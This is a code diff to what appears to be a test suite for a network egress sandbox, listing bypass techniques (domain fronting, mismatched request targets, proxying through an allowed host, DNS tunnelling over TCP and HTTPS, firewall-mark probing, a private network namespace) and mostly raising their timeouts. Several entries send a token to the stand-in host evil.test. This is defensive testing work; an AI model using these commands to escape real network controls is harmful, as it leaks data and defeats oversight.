@@ -38,31 +38,31 @@ roles() {
 export const ATTACKS: readonly Attack[] = [
   { name: "TCP to an address", shows: "address", python: "tcp()" },
   { name: "UDP to an address", shows: "address", python: "udp()" },
-  { name: "HTTP to an address", shows: "address", shell: 'curl -sS -m 2 "http://$ADDR/"' },
+  { name: "HTTP to an address", shows: "address", shell: 'curl -sS -m 8 "http://$ADDR/"' },
   {
     name: "the name of an allowed host, at another address (TLS)",
     shows: "address",
-    shell: 'curl -sSk -m 2 --resolve "site.test:443:$ADDR" https://site.test/',
+    shell: 'curl -sSk -m 8 --resolve "site.test:443:$ADDR" https://site.test/',
   },
   {
     name: "the name of an allowed host, at another address (HTTP)",
     shows: "address",
-    shell: 'curl -sS -m 2 --resolve "site.test:80:$ADDR" http://site.test/',
+    shell: 'curl -sS -m 8 --resolve "site.test:80:$ADDR" http://site.test/',
   },
   {
     name: "another Host inside an allowed host's TLS (domain fronting)",
     shows: "word",
-    shell: 'curl -sSk -m 3 -H "Host: evil.test" "https://site.test/$TOKEN"',
+    shell: 'curl -sSk -m 8 -H "Host: evil.test" "https://site.test/$TOKEN"',
   },
   {
     name: "a request target that differs from Host",
     shows: "word",
-    shell: 'curl -sS -m 3 --request-target "http://evil.test/$TOKEN" http://site.test/',
+    shell: 'curl -sS -m 8 --request-target "http://evil.test/$TOKEN" http://site.test/',
   },
   {
     name: "an allowed host as a forward proxy",
     shows: "word",
-    shell: 'curl -sS -m 3 -x http://site.test:80 "http://evil.test/$TOKEN"',
+    shell: 'curl -sS -m 8 -x http://site.test:80 "http://evil.test/$TOKEN"',
   },
   {
     name: "a word in the name of a lookup",
@@ -78,7 +78,7 @@ export const ATTACKS: readonly Attack[] = [
     name: "a lookup over TCP",
     shows: "word",
     python: `
-s = socket.create_connection((os.environ["NAMESERVER"], 53), 2)
+s = socket.create_connection((os.environ["NAMESERVER"], 53), 5)
 message = query(TOKEN + ".evil.test")
 s.sendall(struct.pack("!H", len(message)) + message)
 s.recv(2000)
@@ -95,7 +95,7 @@ time.sleep(0.2)`,
   {
     name: "DNS over HTTPS inside an allowed host",
     shows: "word",
-    shell: 'curl -sSk -m 3 -H "Content-Type: application/dns-message" --data-binary "$TOKEN" ' +
+    shell: 'curl -sSk -m 8 -H "Content-Type: application/dns-message" --data-binary "$TOKEN" ' +
       "https://site.test/dns-query",
   },
   { name: "ping", shows: "address", shell: 'ping -c 1 -W 1 "$ADDR"' },
@@ -127,7 +127,7 @@ udp(options=options); tcp(options=options)`,
     shows: "address",
     python: `
 s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-s.settimeout(1)
+s.settimeout(5)
 s.sendto(DATA, 0x20000000, (ADDR, 9000))`,
   },
   {
@@ -179,7 +179,7 @@ for mark in {int(m, 16) for m in re.findall(r"0x[0-9a-f]{4,8}", rules())} | {1}:
 ports = {int(port) for port in re.findall(r"--to-ports (\\d+)", rules())}
 for address, port in [("127.0.0.1", port) for port in ports] or [(ADDR, 80)]:
     try:
-        s = socket.create_connection((address, port), 1)
+        s = socket.create_connection((address, port), 3)
         s.sendall(b"GET http://%s/ HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n" % (ADDR.encode(), ADDR.encode()))
         s.recv(100)
     except OSError: pass`,
@@ -202,8 +202,8 @@ ${AFTERWARDS}`,
     name: "a network namespace of one's own, with a link on the uplink",
     shows: "address",
     root: true,
-    shell: `unshare --net sleep 3 & inside=$!
-sleep 0.2
+    shell: `unshare --net sleep 8 & inside=$!
+while [ "/proc/$inside/ns/net" -ef /proc/self/ns/net ]; do sleep 0.05; done
 ip link add "mv$inside" link uplink netns "$inside" type macvlan mode bridge || exit
 nsenter --net --target "$inside" sh -c '
   ip addr add "$OTHER_CLIENT/24" dev "$1"; ip link set "$1" up; ip route add default via "$GATEWAY"
